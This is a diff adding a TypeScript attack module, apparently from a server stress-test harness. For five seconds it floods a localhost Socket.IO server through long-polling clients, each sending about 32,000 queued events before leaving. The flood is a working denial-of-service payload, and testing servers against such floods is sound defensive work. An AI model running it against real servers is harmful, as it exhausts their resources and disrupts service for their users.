@@ -1,0 +1,41 @@
+import { type Attack, forSeconds } from './target.ts';
+
+const AT_A_TIME = 8;
+/** As many as may wait for one client. */
+const EVENTS = 32_000;
+const EVENT = '42["publish","flood/poll","x"]';
+const LEAVE = '1';
+const FLOOD = [...Array.from({ length: EVENTS }, () => EVENT), LEAVE].join('\x1e');
+
+/** Socket.IO clients by long-polling that send more events at a time than are handled in one turn, and leave at once. */
+export const leavingPollers: Attack = {
+  title: 'pollers that flood and leave',
+  async run({ pages }, signal) {
+    if (pages === undefined) return { opened: 0, ended: 0 };
+    const end = forSeconds(5, signal);
+    const url = `http://localhost:${pages}/socket.io/?EIO=4&transport=polling`;
+    let opened = 0;
+    const poll = async () => {
+      while (!end.aborted) {
+        if (await visit(url)) opened++;
+      }
+    };
+    await Promise.all(Array.from({ length: AT_A_TIME }, poll));
+    return { opened, ended: 0 };
+  },
+};
+
+/** Returns whether it was let in. Always to its end: one that goes in the middle is only missed when it does not answer a ping. */
+async function visit(url: string): Promise<boolean> {
+  try {
+    const open = await (await fetch(url)).text();
+    const { sid }: { sid: string } = JSON.parse(open.slice(1));
+    const post = (body: string) => fetch(`${url}&sid=${sid}`, { method: 'POST', body });
+    await post('40');
+    await (await fetch(`${url}&sid=${sid}`)).text();
+    await post(FLOOD);
+    return true;
+  } catch {
+    return false; // It was turned away.
+  }
+}
